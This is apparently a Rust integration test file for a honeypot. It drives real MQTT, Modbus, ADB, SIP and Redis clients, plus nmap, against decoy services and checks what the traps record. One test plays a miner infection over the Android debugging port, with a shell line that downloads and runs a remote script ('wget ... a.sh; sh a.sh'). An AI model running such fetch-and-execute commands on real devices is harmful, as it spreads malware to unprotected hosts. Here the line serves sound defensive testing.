//! Real clients and scanners at the things of a house and a factory: MQTT, Modbus, Android's debugging port.

use crate::support::{self, Traps, printed, run, run_until_it_leaves, run_with};
use honeymesh_trap_proto::Definition;
use honeymesh_types::Signs;
use std::{
    path::PathBuf,
    process::Stdio,
    sync::atomic::{AtomicUsize, Ordering},
    time::{Duration, Instant},
};

fn refusing(service: &str) -> Traps {
    Traps::one(&Definition { service: service.into(), let_in: Some(0), ..Definition::default() })
}

#[tokio::test(flavor = "multi_thread")]
async fn mosquitto_publishes_with_a_password_in_every_version() {
    let mut traps = Traps::usual();
    let port = traps.port("mqtt").to_string();
    for (version, level) in [("mqttv31", "3"), ("mqttv311", "4"), ("mqttv5", "5")] {
        let arguments = [
            "-h",
            "127.0.0.1",
            "-p",
            &port,
            "-V",
            version,
            "-i",
            "bot",
            "-u",
            "admin",
            "-P",
            "hunter2",
            "-q",
            "2",
            "-t",
            "cmd/run",
            "-m",
            "reboot",
        ];
        let output = run("mosquitto_pub", &arguments).await;
        assert!(output.status.success() && printed(&output).is_empty(), "{version}: {}", printed(&output));
        let hello = traps.visit_where(|visit| visit.signs.contains(Signs::CREDENTIALS)).await;
        let fields = ["client", "username", "password", "version"].map(|name| hello.fields[name].as_str());
        assert_eq!(fields, ["bot", "admin", "hunter2", level]);
        let published = traps.visit_where(|visit| visit.signs.contains(Signs::RULE)).await;
        assert_eq!((published.fields["topic"].as_str(), published.fields["message"].as_str()), ("cmd/run", "reboot"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn mosquitto_hears_what_the_broker_retains() {
    let mut traps = Traps::usual();
    let port = traps.port("mqtt").to_string();
    for version in ["mqttv311", "mqttv5"] {
        let topics = ["-t", "#", "-t", "$SYS/broker/version"];
        let arguments = [&["-h", "127.0.0.1", "-p", &port, "-V", version, "-v", "-C", "3"][..], &topics].concat();
        let said = printed(&run("mosquitto_sub", &arguments).await);
        assert!(
            said.contains("$SYS/broker/version mosquitto version 2.0.21") && said.contains("homeassistant/status online"),
            "{said}"
        );
        let visit = traps.visit_where(|visit| visit.fields.contains_key("topic")).await;
        assert!(visit.fields["topic"].contains('#') && visit.signs.is_empty(), "{:?}", visit.fields);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn mosquitto_is_refused_where_nobody_is_let_in() {
    let traps = refusing("mqtt");
    let port = traps.port("mqtt").to_string();
    for (version, words) in [("mqttv311", "not authorised"), ("mqttv5", "Not authorized")] {
        let output = run("mosquitto_pub", &["-h", "127.0.0.1", "-p", &port, "-V", version, "-t", "a", "-m", "b"]).await;
        assert!(!output.status.success() && printed(&output).contains(words), "{}", printed(&output));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn mbpoll_reads_and_writes_and_reads_back() {
    let mut traps = Traps::usual();
    let port = traps.port("modbus").to_string();
    let base = ["-m", "tcp", "-p", &port, "-a", "1", "-1"];
    let read = printed(&run("mbpoll", &[&base[..], &["-t", "4", "-r", "1", "-c", "5", "127.0.0.1"]].concat()).await);
    assert!(read.contains("[1]:") && read.contains("[5]:"), "{read}");
    let visit = traps.visit_where(|visit| visit.fields.contains_key("function")).await;
    let fields = ["unit", "function", "address"].map(|name| visit.fields[name].as_str());
    assert_eq!((fields, visit.signs), (["1", "3", "0"], Signs::empty()));
    let write = run("mbpoll", &[&base[..], &["-t", "4", "-r", "12", "127.0.0.1", "4711", "5"]].concat()).await;
    assert!(printed(&write).contains("Written 2 references."), "{}", printed(&write));
    let hostile = traps.visit_where(|visit| visit.signs.contains(Signs::RULE)).await;
    assert_eq!((hostile.fields["address"].as_str(), hostile.fields["values"].as_str()), ("11", "4711 5"));
    let beyond = printed(&run("mbpoll", &[&base[..], &["-t", "4", "-r", "9000", "127.0.0.1"]].concat()).await);
    assert!(beyond.contains("Illegal data address"), "{beyond}");
}

/// The bridge's server, on a local socket in a home of its own, gone with the test.
struct Bridge {
    socket: String,
    home: PathBuf,
    _server: tokio::process::Child,
}

/// It makes itself a key first.
const STARTED_WITHIN: Duration = Duration::from_secs(60);

impl Bridge {
    async fn start() -> Self {
        static HOMES: AtomicUsize = AtomicUsize::new(0);
        let number = HOMES.fetch_add(1, Ordering::Relaxed);
        let home = std::env::temp_dir().join(format!("adb-home-{}-{number}", std::process::id()));
        std::fs::create_dir_all(&home).unwrap();
        let path = home.join("socket");
        let socket = format!("localfilesystem:{}", path.display());
        let mut server = tokio::process::Command::new("adb");
        server.args(["-L", &socket, "server", "nodaemon"]).env("HOME", &home).env("ANDROID_SDK_HOME", &home);
        server.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).kill_on_drop(true);
        let server = server.spawn().expect("install the Debian package adb");
        let begun = Instant::now();
        while tokio::net::UnixStream::connect(&path).await.is_err() {
            assert!(begun.elapsed() < STARTED_WITHIN, "the bridge's server does not start");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        Self { socket, home, _server: server }
    }

    async fn adb(&self, arguments: &[&str], typed: &[&str]) -> String {
        printed(&run_until_it_leaves("adb", &[&["-L", &self.socket][..], arguments].concat(), typed).await)
    }
}

impl Drop for Bridge {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.home);
    }
}

/// A file that is gone with the test.
struct Scratch(PathBuf);

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_miner_comes_over_the_debugging_port() {
    let mut traps = Traps::usual();
    let box_ = format!("127.0.0.1:{}", traps.port("adb"));
    let bridge = Bridge::start().await;
    let said = bridge.adb(&["connect", &box_], &[]).await;
    assert!(said.contains(&format!("connected to {box_}")), "{said}");
    let hello = traps.visit_where(|visit| visit.trap == "adb" && visit.fields.contains_key("client")).await;
    assert!(hello.fields["client"].starts_with("host::"), "{:?}", hello.fields);

    let model = bridge.adb(&["-s", &box_, "shell", "getprop ro.product.model"], &[]).await;
    assert_eq!(model, "MXQ Pro 4K\r\n");
    let file = Scratch(std::env::temp_dir().join(format!("honeymesh-ufo-{}.apk", std::process::id())));
    std::fs::write(&file.0, vec![0x7f; 200_000]).unwrap();
    let pushed = bridge.adb(&["-s", &box_, "push", file.0.to_str().unwrap(), "/data/local/tmp/"], &[]).await;
    assert!(pushed.contains("1 file pushed"), "{pushed}");
    let command =
        "cd /data/local/tmp; wget http://198.51.100.9/a.sh; sh a.sh; am start -n com.ufo.miner/com.example.test.MainActivity";
    let started = bridge.adb(&["-s", &box_, "shell", command], &[]).await;
    assert!(started.contains("Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }"), "{started}");
    let typed = bridge.adb(&["-s", &box_, "shell"], &["id\n", "exit\n"]).await;
    assert!(typed.contains("uid=0(root) gid=0(root)"), "{typed}");

    let file = traps.visit_where(|visit| visit.fields.contains_key("file_bytes")).await;
    let name = format!("/data/local/tmp/honeymesh-ufo-{}.apk", std::process::id());
    assert_eq!(
        (&file.fields["path"], file.fields["file_bytes"].as_str(), file.signs),
        (&name, "200000", Signs::RULE | Signs::TRUNCATED)
    );
    let ran = traps.visit_where(|visit| visit.fields.get("command").is_some_and(|told| told.contains("wget"))).await;
    assert_eq!(ran.fields["command"], command);
    traps.visit_where(|visit| visit.fields.get("command").is_some_and(|told| told == "id")).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_box_that_asks_for_a_key_gets_it_and_lets_nobody_in() {
    let mut traps = refusing("adb");
    let box_ = format!("127.0.0.1:{}", traps.port("adb"));
    let bridge = Bridge::start().await;
    // The client waits until somebody presses the button, or gives up before.
    let connect = ["connect", box_.as_str()];
    let mut asked = std::pin::pin!(traps.visit_where(|visit| visit.fields.contains_key("public_key")));
    let key = tokio::select! {
        key = &mut asked => key,
        _gave_up = bridge.adb(&connect, &[]) => asked.await,
    };
    assert_eq!(key.signs, Signs::CREDENTIALS);
    let listed = bridge.adb(&["devices"], &[]).await;
    assert!(!listed.contains("\tdevice"), "{listed}");
}

/// nmap's own probe of this name, which it would send to the usual port only.
fn probe(name: &str) -> Scratch {
    let all = std::fs::read("/usr/share/nmap/nmap-service-probes").unwrap();
    let all = String::from_utf8_lossy(&all).into_owned();
    let at = all.find(&format!("Probe TCP {name} ")).unwrap();
    let lines = all[at..].lines().take_while(|line| !line.starts_with("####"));
    let lines = lines.filter(|line| !line.starts_with("rarity") && !line.starts_with("fallback"));
    let file = Scratch(std::env::temp_dir().join(format!("probe-{name}-{}", std::process::id())));
    std::fs::write(&file.0, lines.collect::<Vec<_>>().join("\n") + "\n").unwrap();
    file
}

async fn nmap(traps: &Traps, trap: &str, arguments: &[&str], expected: &[&str]) {
    let port = traps.port(trap).to_string();
    support::nmap(&[arguments, &["-Pn", "-n", "-p", &port, "127.0.0.1"]].concat(), expected).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_takes_each_for_what_it_plays() {
    let traps = Traps::usual();
    let (mqtt, adb) = (probe("mqtt"), probe("adbConnect"));
    let of = |file: &Scratch| file.0.to_str().unwrap().to_owned();
    let scan = ["-sV", "--versiondb", &of(&mqtt), "--script", "mqtt-subscribe"];
    nmap(&traps, "mqtt", &scan, &["$SYS/broker/version: mosquitto version 2.0.21"]).await;
    nmap(&traps, "modbus", &["--script", "+modbus-discover"], &["Schneider Electric BMX P34 2020 v3.60"]).await;
    let device = ["Android Debug Bridge device", "model: MXQ Pro 4K"];
    nmap(&traps, "adb", &["-sV", "--versiondb", &of(&adb)], &device).await;
}

/// The first bytes tell: on dark ports all three are played, too.
#[tokio::test(flavor = "multi_thread")]
async fn a_port_that_serves_nothing_plays_what_it_hears() {
    let mut traps = Traps::usual();
    let port = traps.port("any").to_string();
    let published = run("mosquitto_pub", &["-h", "127.0.0.1", "-p", &port, "-u", "a", "-P", "b", "-t", "c", "-m", "d"]).await;
    assert!(published.status.success(), "{}", printed(&published));
    let read = printed(&run("mbpoll", &["-m", "tcp", "-p", &port, "-a", "1", "-1", "-r", "1", "127.0.0.1"]).await);
    assert!(read.contains("[1]:"), "{read}");
    let (bridge, box_) = (Bridge::start().await, format!("127.0.0.1:{port}"));
    bridge.adb(&["connect", &box_], &[]).await;
    assert_eq!(bridge.adb(&["-s", &box_, "shell", "getprop ro.build.version.sdk"], &[]).await, "22\r\n");
    for protocol in ["mqtt", "modbus", "adb"] {
        traps.visit_where(|visit| visit.fields.get("protocol").is_some_and(|told| told == protocol)).await;
    }
}

/// What telephones, cameras and stores are asked begins as something else does, or says only later what it is.
#[tokio::test(flavor = "multi_thread")]
async fn a_port_that_serves_nothing_takes_no_telephone_and_no_camera_for_the_web() {
    let mut traps = Traps::usual();
    let port = traps.port("any").to_string();
    let uri = format!("sip:100@127.0.0.1:{port}");
    let options = printed(&run("sipsak", &["-E", "tcp", "-vv", "-s", &uri]).await);
    assert!(options.contains("SIP/2.0 200 OK") && options.contains("Server: Asterisk PBX 22.7.0"), "{options}");
    let asked = traps.visit_where(|visit| visit.fields.get("method").is_some_and(|method| method == "OPTIONS")).await;
    assert_eq!((asked.fields["protocol"].as_str(), asked.trap.as_str()), ("sip", "any"), "{:?}", asked.fields);
    let login = ["-E", "tcp", "-U", "-C", "sip:a@192.0.2.7:5060", "-vv", "-u", "1000", "-a", "s3cret", "-s", &uri];
    let register = printed(&run("sipsak", &login).await);
    assert!(register.contains("401"), "{register}");
    let tried = traps.visit_where(|visit| visit.trap == "any" && visit.signs.contains(Signs::CREDENTIALS)).await;
    assert!(tried.fields["digest"].starts_with("$sip$***1000*asterisk*REGISTER*"), "{:?}", tried.fields);

    let long = ["-p", &port, "MSET", "a", "1", "b", "2", "c", "3", "d", "4", "e", "5"];
    assert_eq!(printed(&run("redis-cli", &long).await), "OK\n");
    traps.visit_where(|visit| visit.fields.get("command").is_some_and(|command| command.starts_with("MSET a 1"))).await;
    let stored = run_with("nc", &["127.0.0.1", &port], &["set a 0 0 5\r\nhello\r\n", "get a\r\n", "quit\r\n"]).await;
    assert_eq!(printed(&stored), "STORED\r\nVALUE a 0 5\r\nhello\r\nEND\r\n");

    let (exchange, camera) = (probe("SIPOptions"), probe("RTSPRequest"));
    nmap(&traps, "any", &["-sV", "--versiondb", exchange.0.to_str().unwrap()], &["open  sip"]).await;
    let seen = ["-sV", "--versiondb", camera.0.to_str().unwrap(), "-Pn", "-n", "-p", &port, "127.0.0.1"];
    // It names what usually has that port, with a question mark, or nothing.
    support::nmap_without(&seen, &["/tcp open "], &["nginx", "open  http", "open  rtsp"]).await;
    let visit = traps.visit_where(|visit| visit.fields.get("protocol").is_some_and(|protocol| protocol == "rtsp")).await;
    assert!(visit.payload.starts_with(b"OPTIONS / RTSP/1.0\r\n"), "{visit:?}");
}
